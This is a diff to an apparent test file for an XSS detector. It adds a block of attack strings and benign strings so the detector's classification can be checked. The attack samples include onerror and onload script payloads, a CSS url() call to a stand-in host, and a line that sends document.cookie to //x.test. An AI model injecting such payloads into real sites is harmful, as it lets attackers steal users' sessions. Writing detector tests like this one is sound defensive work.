@@ -36,3 +36,25 @@ testDetector('xss', detectXss, {
     '<span title="note">Note</span>',
   ],
 });
+
+// Media tags, plain inline styles and base64 SVG images in rich text run no
+// script; DOM names in a sentence are a search.
+testDetector('xss rich text and prose', detectXss, {
+  attacks: [
+    '<img src=x onerror=alert(1)>',
+    '<video><source onerror="alert(1)">',
+    '<p style="background:url(//x.test/a)">',
+    '<div style="position:fixed;top:0">',
+    `data:image/svg+xml;base64,${Buffer.from('<svg onload=alert(1)>').toString('base64')}`,
+    "';location.href='//x.test/?'+document.cookie;//",
+    'x=document.cookie',
+  ],
+  benign: [
+    '<img src="/media/cat.png" alt="A cat">',
+    '<span style="color: #c00; font-weight: bold">Sale</span>',
+    `data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>').toString('base64')}`,
+    'why is document.cookie empty in safari',
+    'window.location.href redirect not working',
+    'back to top.',
+  ],
+});
